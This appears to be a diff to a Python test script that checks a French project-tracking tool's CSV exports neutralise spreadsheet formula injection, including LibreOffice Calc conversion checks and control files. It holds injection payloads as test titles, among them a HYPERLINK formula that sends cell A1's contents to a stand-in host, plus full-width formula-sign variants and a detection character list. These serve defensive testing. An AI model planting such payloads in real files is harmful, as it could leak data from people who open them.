@@ -6,7 +6,8 @@
 Every table is read back with Python's csv module, as a spreadsheet or a
 script of a funder would, and compared with the contract read independently
 with PyYAML (through tests/oracle.py's loader, which resolves scalars the
-way cls-format(5) says): rows, columns, cells, sums of money per financeur.
+way cls-format(5) says): rows, columns, cells, sums of money per financeur;
+and opened by LibreOffice Calc, which must find no formula in them.
 The rules checked are those of cls-export(1).  Prints one line per failure
 and exits 1, or prints how many checks passed and exits 0.
 """
@@ -67,15 +68,30 @@ def export(args, what, status=0, **kw):
     return read(p.stdout, **kw)
 
 
+# What starts a formula, and the full-width signs of East Asian input
+# (U+FF1D, U+FF0B, U+FF0D, U+FF20).
+FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
+
+
+def risky(text):
+    """Whether cls-export(1), Formula injection, has the text neutralised:
+    it starts with a tab, CR or LF, or with one of FORMULA after any
+    spaces and tabs."""
+    if not text:
+        return False
+    if text[0] in "\t\r\n":
+        return True
+    rest = text.lstrip(" \t")
+    return bool(rest) and rest[0] in FORMULA
+
+
 def cell(text):
     """A text as a spreadsheet must receive it: neutralised when it starts
     like a formula (cls-export(1), Formula injection)."""
     if text is None:
         return ""
     text = str(text)
-    if text and text[0] in "=+-@\t\r\n":
-        return "'" + text
-    return text
+    return "'" + text if risky(text) else text
 
 
 def joined(items):
@@ -248,7 +264,12 @@ axes:
 """)
 TITLES = ['=HYPERLINK("http://x.example/?q="&A1;"clic")', "+1", "-2+3",
           "@SUM(A1:A9)", "\tavec tabulation", "\rretour chariot",
-          "\nsaut de ligne", "Titre ordinaire, avec ; des \"séparateurs\""]
+          "\nsaut de ligne", "  =1+1", " \t@SUM(A1:A9)", "   -2+3",
+          "\uff1dHYPERLINK(\"http://x.example\")", "\uff0b1", "\uff0d1",
+          "\uff20SUM(A1)", "  \uff1d1+1",
+          # look like formulas but are none: left as they are
+          "\u3000=1+1", "\u00a0=1+1", "a =1", "1+1",
+          "Titre ordinaire, avec ; des \"séparateurs\""]
 DESCRIPTION = ("Ligne un, avec \"guillemets\" ; et séparateurs\n"
                "\n  ligne indentée\r\nfin Windows\n")
 for i, title in enumerate(TITLES, 1):
@@ -273,6 +294,10 @@ indicateurs:
     libelle: Avis
     type: resultat
     valeurs: {2023: "=1+1", 2024: "bon"}
+  - id: note
+    libelle: "  =Note"
+    type: processus
+    valeurs: {2023: "  =2", 2024: "\uff20x", 2025: " -3"}
 suivi:
   2023:
     statut: en_cours
@@ -287,8 +312,9 @@ check(p.returncode == 0, "the crafted contract is invalid: %s" %
 rows, _ = export(["fiches", PIEGE], "fiches piege")
 check([r["titre"] for r in rows] == [cell(t) for t in TITLES],
       "injection: titres %r" % [r["titre"] for r in rows])
-check(all(r["titre"].startswith("'") for r in rows[:-1]),
-      "injection: a risky titre without '")
+check(all(r["titre"].startswith("'") == risky(t)
+          for r, t in zip(rows, TITLES)) and risky(TITLES[0]) and
+      not risky(TITLES[-2]), "injection: a risky titre without '")
 check(rows[-1]["titre"] == TITLES[-1], "injection: ordinary titre changed")
 check([r["porteurs"] for r in rows] ==
       [cell(t + " ; Porteur B") for t in TITLES], "injection: porteurs")
@@ -308,6 +334,147 @@ check(sol and all(r["valeur"] == "-2.5" and r["cible_min"] == "-5" and
       "negative numbers must stay numbers: %s" % sol[:1])
 check(avis and all(r["valeur"] == "'=1+1" for r in avis),
       "a text valeur =1+1 must arrive as text: %s" % avis[:1])
+
+# ------------------------------------------- what LibreOffice Calc runs
+# The tables as a spreadsheet opens them: LibreOffice Calc converts them
+# (soffice --headless, in a profile of its own) to xlsx, whose cells are
+# read back: no cell of any table may be a formula, every neutralised text
+# arrives as written after its "'", numbers stay numbers.  The same rows
+# written without the "'" are the control: Calc runs "=" as a formula,
+# and with its "Trim spaces" option also an unquoted "  =1+1", which is
+# why blanks before a formula are neutralised too.
+LO = os.path.join(tmp, "lo")
+os.makedirs(LO)
+# filter options: separator, quote, UTF-8 (76), first line, column
+# formats, language (1036: French, whose decimal comma --excel writes),
+# quoted as text, detect special numbers, three export options, trim
+CALC_DEFAULT = "44,34,76,1,,1033"
+CALC_EXCEL = "59,34,76,1,,1036"
+CALC_TRIM = "44,34,76,1,,1033,false,false,false,false,true"
+
+
+def calc(paths, options):
+    """The cells of each CSV file as LibreOffice Calc reads it with the
+    given filter options: {path: {(row, column): (type, formula, text)}},
+    rows and columns from 0."""
+    import xml.etree.ElementTree as ET
+    import zipfile
+    out = os.path.join(LO, "out-%d" % len(os.listdir(LO)))
+    p = subprocess.run(
+        ["timeout", "300", "soffice",
+         "-env:UserInstallation=file://" + os.path.join(LO, "profile"),
+         "--headless", "--infilter=CSV:" + options, "--convert-to", "xlsx",
+         "--outdir", out] + paths, stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT)
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    res = {}
+    for path in paths:
+        x = os.path.join(out, os.path.basename(path)[:-4] + ".xlsx")
+        if not check(os.path.exists(x), "soffice did not convert %s: %s" %
+                     (path, p.stdout.decode(errors="replace")[-300:])):
+            res[path] = {}
+            continue
+        z = zipfile.ZipFile(x)
+        strings = []
+        if "xl/sharedStrings.xml" in z.namelist():
+            for si in ET.fromstring(z.read("xl/sharedStrings.xml")):
+                strings.append("".join(t.text or "" for t in
+                                       si.iter("{%s}t" % ns["m"])))
+        cells = {}
+        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
+        for c in sheet.iter("{%s}c" % ns["m"]):
+            ref = c.get("r")
+            col = 0
+            for ch in ref.rstrip("0123456789"):
+                col = col * 26 + ord(ch) - 64
+            row = int(ref[len(ref.rstrip("0123456789")):]) - 1
+            t = c.get("t", "n")
+            f = c.find("m:f", ns)
+            v = c.find("m:v", ns)
+            text = v.text if v is not None else None
+            if t == "s" and text is not None:
+                text = strings[int(text)]
+            elif t == "inlineStr":
+                text = "".join(x.text or "" for x in c.iter("{%s}t" %
+                                                           ns["m"]))
+            cells[(row, col - 1)] = (t, f.text if f is not None else None,
+                                     text)
+        res[path] = cells
+    return res
+
+
+def calc_table(cells, column):
+    """The cells of the named column below the header, by row."""
+    head = {c: v[2] for (r, c), v in cells.items() if r == 0}
+    col = [c for c, name in head.items() if name == column]
+    if not col:
+        return []
+    rows = max(r for r, c in cells) if cells else 0
+    return [cells.get((r, col[0]), ("", None, "")) for r in
+            range(1, rows + 1)]
+
+
+def lf(text):
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+files = {}
+for table in ("fiches", "indicateurs", "financements", "suivi"):
+    for dialect, args in (("rfc", []), ("excel", ["--excel"])):
+        path = os.path.join(LO, "%s-%s.csv" % (table, dialect))
+        p = run(["export", table] + args + ["-o", path, PIEGE])
+        check(p.returncode == 0, "export %s %s for Calc" % (table, dialect))
+        files[(table, dialect)] = path
+# the controls: the fiches without their "'", every text quoted; and
+# unquoted, to be read with Calc's "Trim spaces"
+rows, head = read(open(files[("fiches", "rfc")], "rb").read())
+bare = [[r[h][1:] if r[h].startswith("'") else r[h] for h in head]
+        for r in rows]
+control = os.path.join(LO, "control.csv")
+with open(control, "w", encoding="utf-8", newline="") as f:
+    csv.writer(f, quoting=csv.QUOTE_ALL).writerows([head] + bare)
+trim_control = os.path.join(LO, "control-trim.csv")
+with open(trim_control, "w", encoding="utf-8", newline="") as f:
+    f.write("titre\n" + "\n".join(
+        t for t in TITLES if not any(c in t for c in "\r\n,\"")) + "\n")
+default = calc([p for (t, d), p in files.items() if d == "rfc"] +
+               [control], CALC_DEFAULT)
+excel = calc([p for (t, d), p in files.items() if d == "excel"],
+             CALC_EXCEL)
+trimmed = calc([files[("fiches", "rfc")], trim_control], CALC_TRIM)
+for (table, dialect), path in files.items():
+    cells = (default if dialect == "rfc" else excel)[path]
+    formulas = [v for v in cells.values() if v[1] is not None]
+    check(cells and not formulas, "Calc runs formulas of %s %s: %s" %
+          (table, dialect, formulas[:3]))
+    if table == "fiches":
+        got = [lf(v[2] or "") for v in calc_table(cells, "titre")]
+        check(got == [lf(cell(t)) for t in TITLES],
+              "Calc reads the titres of %s as %r" % (dialect, got))
+    if table == "indicateurs":
+        sol = [v for v in calc_table(cells, "valeur") if v[0] == "n"]
+        check(sol and all(float(v[2]) in (-2.5, 1234567.125) for v in sol),
+              "Calc reads the numbers of %s as %r" % (dialect, sol))
+check(not [v for v in trimmed[files[("fiches", "rfc")]].values()
+           if v[1] is not None], "Calc with Trim spaces runs a formula")
+ctl = [v[1] for v in calc_table(default[control], "titre")]
+check(ctl[0] and "HYPERLINK" in ctl[0] and ctl.count(None) == len(ctl) - 1,
+      "the control: Calc runs only the leading =, and only there: %r" % ctl)
+ctl = calc_table(trimmed[trim_control], "titre")
+check(ctl and [t for t, v in zip([t for t in TITLES if not any(
+    c in t for c in "\r\n,\"")], ctl) if v[1] is not None] ==
+      ["  =1+1"],
+      "the control: Calc trimming spaces runs %r" % ctl)
+
+# cls import reads back what cls export neutralised, without the "'"
+RT = os.path.join(tmp, "roundtrip")
+shutil.copytree(PIEGE, RT)
+p = run(["export", "indicateurs", "--excel", "-o",
+         os.path.join(tmp, "rt.csv"), RT])
+p = run(["import", "--dry-run", os.path.join(tmp, "rt.csv")], cwd=RT)
+check(p.returncode == 0 and p.stdout.startswith(b"would write 0 values") and
+      b" unchanged" in p.stdout, "import of an export: %r %r" %
+      (p.stdout[:300], p.stderr[:300]))
 
 # --financeur: case and accents do not matter; an unknown one is exit 2
 for name, want in (("cpam", "CPAM"), ("departement", "Département"),
